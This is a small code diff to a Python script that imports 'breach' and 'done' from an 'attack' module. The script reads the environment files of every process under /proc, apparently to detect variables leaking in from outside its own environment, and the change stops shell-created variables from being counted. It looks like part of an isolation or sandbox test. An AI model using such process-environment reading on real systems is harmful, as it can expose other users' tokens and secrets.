@@ -6,7 +6,7 @@ import os
 
 from attack import breach, done
 
-known = set(os.environ)
+known = {*os.environ, "PWD", "OLDPWD", "SHLVL", "_"}  # a shell makes these itself
 for path in glob.glob("/proc/[0-9]*/environ"):
     try:
         with open(path, "rb") as file:
